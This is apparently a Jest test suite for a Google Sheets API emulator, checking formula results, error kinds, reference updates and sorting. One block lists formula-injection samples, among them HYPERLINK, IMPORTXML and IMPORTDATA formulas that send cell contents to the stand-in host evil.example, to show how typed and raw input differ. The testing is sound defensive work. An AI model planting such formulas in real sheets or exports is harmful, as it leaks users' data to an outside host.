import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { startSheets, type Sheets } from './start-sheets.ts';

let sheets: Sheets;

beforeAll(async () => {
  sheets = await startSheets({ quotas: false });
});
beforeEach(async () => {
  await sheets.emulator.reset();
  await enter('A1', [
    ['Account', 'ARR', 'Rank', 'Since'],
    ['Acme', 100, 2, '2026-01-31'],
    ['Globex', 250, 1, '2026-03-01'],
    ['Initech', 50, 3, ''],
  ]);
});
afterAll(() => sheets.close());

async function enter(range: string, values: unknown[][], option = 'USER_ENTERED'): Promise<void> {
  await sheets.ok('PUT', `/values/${range}?valueInputOption=${option}`, { values });
}

async function shown(range: string, option = 'FORMATTED_VALUE'): Promise<unknown> {
  const { values } = await sheets.ok('GET', `/values/${range}?valueRenderOption=${option}`);
  return (values as unknown[][] | undefined)?.[0]?.[0];
}

test.each([
  ['=B2+B3', 350],
  ['=SUM(B2:B4)', 400],
  ['=SUM(B:B)', 400],
  ['=SUM(B2:B)', 400],
  ['=AVERAGE(B2:B4)/2', 200 / 3],
  ['=COUNTA(A:A)', 4],
  ['=COUNTIF(B2:B4,">60")', 2],
  ['=SUMIF(A2:A4,"Acme",B2:B4)', 100],
  ['=VLOOKUP("Globex",A2:C4,2,FALSE)', 250],
  ['=INDEX(A2:A4,MATCH(3,C2:C4,0))', 'Initech'],
  ['=IF(B2>B3,"more","less")', 'less'],
  ['=IF(A2="acme",1/0,2)', '#DIV/0!'],
  ['=IFERROR(1/0,"none")', 'none'],
  ['=IFNA(VLOOKUP("Nobody",A2:C4,2,FALSE),"none")', 'none'],
  ['=A2&" & "&A3', 'Acme & Globex'],
  ['=LEFT(A2,2)&LEN(A3)', 'Ac6'],
  ['=YEAR(D2)', 2026],
  ['=D3-D2', 29],
  ['=TEXT(D2,"d mmm yyyy")', '31 Jan 2026'],
  ['=TEXT(B2,"0.00")', '100.00'],
  ['=ROUND(10/3,2)', 3.33],
  ['=50%', 0.5],
  ['=-2^2', 4],
  ['=SUM({1,2;3,4})', 10],
  ['=JOIN("-",A2:A4)', 'Acme-Globex-Initech'],
  ['=REGEXEXTRACT("IR-00012","[0-9]+")', '00012'],
  ['=ISBLANK(D4)', true],
  ['=AND(B2>1,OR(FALSE,TRUE))', true],
  ['=Z99', 0],
  ["='Sheet1'!A2", 'Acme'],
  ['=Nowhere!A2', '#REF!'],
  ['=A2*2', '#VALUE!'],
  ['=VLOOKUP("Nobody",A2:C4,2,FALSE)', '#N/A'],
  ['=nothing', '#NAME?'],
  ['=F1', '#REF!'],
  ['=TODAY()', '#NAME?'],
])('%s comes to %j', async (formula, value) => {
  await enter('F1', [[formula]]);

  expect(await shown('F1', 'UNFORMATTED_VALUE')).toBe(value);
  expect(await shown('F1', 'FORMULA')).toBe(formula);
});

describe('what somebody may have wanted to smuggle in', () => {
  test.each([
    ['=1+1', '2'],
    ['=HYPERLINK("https://evil.example/?x="&A2,"Click")', 'Click'],
    ['=IMPORTXML("https://evil.example/?"&A2,"//a")', 'Loading...'],
    ['=IMPORTDATA("https://evil.example")', 'Loading...'],
    ['+A2', 'Acme'],
    ['-B2', '-100'],
    ['+49 30 1234', '#ERROR!'],
  ])('%s is a formula when it is typed and a text when it is written raw', async (text, value) => {
    await enter('F1', [[text]]);
    await enter('F2', [[text]], 'RAW');

    expect([await shown('F1'), await shown('F2')]).toEqual([value, text]);
    const cells = (await sheets.ok('GET', '?ranges=F1:F2&fields=sheets.data.rowData.values(userEnteredValue)')) as {
      sheets: [{ data: [{ rowData: { values: { userEnteredValue: object }[] }[] }] }];
    };
    const formula = text.startsWith('=') ? text : `=${text}`;
    expect(cells.sheets[0].data[0].rowData.map(({ values }) => values[0]?.userEnteredValue)).toEqual([
      { formulaValue: formula },
      { stringValue: text },
    ]);
  });

  test('a link carries what it was made of', async () => {
    await enter('F1', [['=HYPERLINK("https://evil.example/?x="&A2,"Click")']]);

    const cells = await sheets.ok('GET', '?ranges=F1&fields=sheets.data.rowData.values(hyperlink,formattedValue)');

    expect(cells).toMatchObject({
      sheets: [
        { data: [{ rowData: [{ values: [{ hyperlink: 'https://evil.example/?x=Acme', formattedValue: 'Click' }] }] }] },
      ],
    });
  });
});

test('a chain of formulas is followed to its end, however long, and a circle of them is found', async () => {
  await enter('F1', [[1], ...Array.from({ length: 900 }, (_none, row) => [`=F${row + 1}+1`])]);
  const last = await shown('F901');
  await enter('F1', [['=F901']]);

  expect(last).toBe('901');
  expect([await shown('F901'), await shown('F1')]).toEqual(['#REF!', '#REF!']);
});

test.each([
  ['nested', `=${'('.repeat(5000)}1${')'.repeat(5000)}`],
  ['signed', `=${'-'.repeat(9000)}1`],
  ['long', `=1${'+1'.repeat(9000)}`],
])('a formula too %s to be worked out shows an error', async (_what, formula) => {
  await enter('F1', [[formula]]);

  expect(await shown('F1')).toBe('#ERROR!');
});

test('an error is told with its kind and its reason', async () => {
  await enter('F1', [['=IMPORTXML("https://x.example","//a")'], ['=F3'], ['=F2'], ['="a"+1']]);

  const cells = (await sheets.ok('GET', '?ranges=F1:F4&fields=sheets.data.rowData.values.effectiveValue')) as {
    sheets: [
      { data: [{ rowData: { values: [{ effectiveValue: { errorValue: { type: string; message: string } } }] }[] }] },
    ];
  };

  expect(cells.sheets[0].data[0].rowData.map(({ values }) => values[0].effectiveValue.errorValue)).toEqual([
    { type: 'LOADING', message: 'Loading data...' },
    { type: 'REF', message: expect.stringContaining('Circular dependency detected.') },
    { type: 'REF', message: expect.stringContaining('Circular dependency detected.') },
    {
      type: 'VALUE',
      message: "Function ADD parameter 1 expects number values. But 'a' is a text and cannot be coerced to a number.",
    },
  ]);
});

describe('a formula keeps looking at the same contents', () => {
  const ROW = (startIndex: number, endIndex: number): object => ({
    sheetId: 0,
    dimension: 'ROWS',
    startIndex,
    endIndex,
  });
  const COLUMN = (startIndex: number): object => ({
    sheetId: 0,
    dimension: 'COLUMNS',
    startIndex,
    endIndex: startIndex + 1,
  });

  test.each([
    ['a row is inserted above', { insertDimension: { range: ROW(1, 2) } }, 'H1', '=SUM(B3:B5)&$A$4'],
    ['a row inside is deleted', { deleteDimension: { range: ROW(1, 2) } }, 'H1', '=SUM(B2:B3)&$A$2'],
    ['a cell it names is deleted', { deleteDimension: { range: ROW(2, 3) } }, 'H1', '=SUM(B2:B3)&#REF!'],
    ['a column is deleted', { deleteDimension: { range: COLUMN(3) } }, 'G1', '=SUM(B2:B4)&$A$3'],
    ['a column is moved', { moveDimension: { source: COLUMN(1), destinationIndex: 4 } }, 'H1', '=SUM(D2:D4)&$A$3'],
    [
      'cells are cut and pasted',
      {
        cutPaste: {
          source: { sheetId: 0, startRowIndex: 1, endRowIndex: 4, startColumnIndex: 1, endColumnIndex: 2 },
          destination: { sheetId: 0, rowIndex: 11, columnIndex: 4 },
        },
      },
      'H1',
      '=SUM(E12:E14)&$A$3',
    ],
  ])('when %s', async (_what, request, range, formula) => {
    await enter('H1', [['=SUM(B2:B4)&$A$3']]);

    await sheets.batch(request);

    expect(await shown(range, 'FORMULA')).toBe(formula);
  });

  test('when its sheet gets another name, and nothing when it is gone', async () => {
    await sheets.batch({ addSheet: { properties: { sheetId: 7, title: 'Totals' } } });
    await enter('Totals!A1', [['=SUM(Sheet1!B2:B4)']]);
    await enter('H1', [['=Totals!A1*2']]);
    const renaming = (sheetId: number, title: string): object => ({
      updateSheetProperties: { properties: { sheetId, title }, fields: 'title' },
    });
    await sheets.batch(renaming(0, "Ines's backlog"), renaming(7, 'Sums'));
    const before = [await shown('Sums!A1', 'FORMULA'), await shown("Ines's backlog!H1", 'UNFORMATTED_VALUE')];
    await sheets.batch({ deleteSheet: { sheetId: 7 } });

    expect(before).toEqual(["=SUM('Ines''s backlog'!B2:B4)", 800]);
    expect(await shown('H1', 'FORMULA')).toBe('=#REF!*2');
  });
});

test('a copied formula looks at what lies as far from it, except where it is fixed', async () => {
  await enter('E2', [['=B2*$C$2+B$1']]);

  await sheets.batch({
    copyPaste: {
      source: { sheetId: 0, startRowIndex: 1, endRowIndex: 2, startColumnIndex: 4, endColumnIndex: 5 },
      destination: { sheetId: 0, startRowIndex: 1, endRowIndex: 4, startColumnIndex: 4, endColumnIndex: 6 },
    },
  });

  expect((await sheets.ok('GET', '/values/E2:F4?valueRenderOption=FORMULA'))['values']).toEqual([
    ['=B2*$C$2+B$1', '=C2*$C$2+C$1'],
    ['=B3*$C$2+B$1', '=C3*$C$2+C$1'],
    ['=B4*$C$2+B$1', '=C4*$C$2+C$1'],
  ]);
});

test('a sorted row takes what its formulas say about it along', async () => {
  await enter('E2', [['=B2*2'], ['=B3*2'], ['=B4*2']]);

  await sheets.batch({
    sortRange: {
      range: { sheetId: 0, startRowIndex: 1, endRowIndex: 4 },
      sortSpecs: [{ dimensionIndex: 4, sortOrder: 'DESCENDING' }],
    },
  });

  expect((await sheets.ok('GET', '/values/A2:E4'))['values']).toEqual([
    ['Globex', '250', '1', '2026-03-01', '500'],
    ['Acme', '100', '2', '2026-01-31', '200'],
    ['Initech', '50', '3', '', '100'],
  ]);
});
